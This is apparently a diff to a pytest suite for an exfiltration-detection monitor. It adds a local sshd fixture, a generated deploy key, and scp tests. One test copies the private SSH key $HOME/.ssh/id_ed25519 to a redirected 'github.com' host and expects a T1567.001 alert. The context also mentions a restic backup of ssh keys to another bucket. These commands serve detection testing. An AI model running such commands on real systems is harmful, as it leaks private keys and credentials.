@@ -93,6 +93,52 @@ def storage(tmp_path_factory):
     service.stop()
 
 
+class SshServer:
+    """sshd on STORAGE_ADDRESS:22 accepting one public key for root; its own config, host key and
+    pid file, nothing of the host's sshd."""
+
+    def __init__(self, workdir):
+        self.workdir = Path(workdir)
+        self.authorized = self.workdir / "authorized_keys"
+        self._process = None
+
+    def start(self):
+        host_key = self.workdir / "host_ed25519"
+        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(host_key)], check=True)
+        self.authorized.write_text("")
+        os.chmod(self.authorized, 0o600)
+        config = self.workdir / "sshd_config"
+        config.write_text(f"ListenAddress {STORAGE_ADDRESS}:22\nHostKey {host_key}\n"
+                          f"AuthorizedKeysFile {self.authorized}\nPidFile {self.workdir}/sshd.pid\n"
+                          "PermitRootLogin prohibit-password\nPasswordAuthentication no\n"
+                          "KbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
+                          "Subsystem sftp internal-sftp\n")
+        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
+        # sshd prints nothing when ready: a wrapper that waits for the port and says "ready".
+        wrapper = ("import socket, subprocess, sys, time\n"
+                   f"p = subprocess.Popen(['/usr/sbin/sshd', '-D', '-e', '-f', '{config}'])\n"
+                   "for _ in range(100):\n"
+                   "    try:\n"
+                   f"        socket.create_connection(('{STORAGE_ADDRESS}', 22), 0.2).close(); break\n"
+                   "    except OSError: time.sleep(0.1)\n"
+                   "print('ready', flush=True)\n"
+                   "import signal; signal.signal(signal.SIGTERM, lambda *a: (p.terminate(), sys.exit(0)))\n"
+                   "sys.exit(p.wait())\n")
+        self._process = BackgroundProcess([paths.PYTHON, "-c", wrapper], self.workdir, "sshd").start()
+        return self
+
+    def stop(self):
+        if self._process:
+            self._process.stop()
+
+
+@pytest.fixture(scope="module")
+def sshd(tmp_path_factory):
+    server = SshServer(tmp_path_factory.mktemp("sshd")).start()
+    yield server
+    server.stop()
+
+
 @pytest.fixture(scope="module")
 def rules_file(tmp_path_factory):
     path = tmp_path_factory.mktemp("rules") / "rules.yaml"
@@ -129,6 +175,10 @@ def home(fake_home, storage):
     for name, size in (("Documents/q3-report.pdf", 120_000), ("Documents/notes/plan.odt", 40_000)):
         write(name, os.urandom(size), 0o644)
     write("build/artifact.tar", os.urandom(200_000), 0o644)
+    # A real key pair for ssh (FakeHome's key is random bytes in the right format).
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "deploy", "-f", str(h / ".ssh/id_deploy")],
+                   check=True)
+    fake_home.files[".ssh/id_deploy"] = h / ".ssh/id_deploy"
     return fake_home
 
 
@@ -325,3 +375,30 @@ def test_restic_backup_of_ssh_keys_to_another_repository_alerts(monitor, home, s
         AWS_SECRET_ACCESS_KEY=AWS_SECRET)
     uploaded(storage, "PUT", "other-bucket/r/snapshots/")
     assert_alert_here(monitor, home, "T1567.002")
+
+
+# --- scp -i KEY ---------------------------------------------------------------------------------
+
+SCP = ("scp -q -i $HOME/.ssh/id_deploy -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
+       "-o BatchMode=yes ")
+
+
+def authorize(home, sshd):
+    sshd.authorized.write_text((home.path / ".ssh" / "id_deploy.pub").read_text())
+
+
+def test_scp_with_a_deploy_key_is_silent(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "scp-artifact.tar"
+    run(SCP + f"$HOME/build/artifact.tar root@github.com:{target}", home, storage, tmp_path)
+    assert target.stat().st_size == 200_000
+    wait_for_flow(monitor, storage, "github.com")
+    assert_silent_here(monitor, home)
+
+
+def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "scp-key"
+    run(SCP + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
+    assert target.exists()
+    assert_alert_here(monitor, home, "T1567.001")
